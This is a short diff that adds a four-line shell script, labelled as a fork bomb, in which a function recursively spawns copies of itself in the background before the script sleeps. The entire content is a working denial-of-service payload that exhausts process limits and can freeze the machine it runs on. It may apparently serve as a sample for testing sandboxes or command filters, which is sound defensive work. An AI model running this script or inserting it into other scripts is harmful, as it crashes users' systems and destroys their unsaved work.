@@ -1,0 +1,4 @@
+# Shell fork bomb.
+b() { b | b & }
+b
+sleep 5
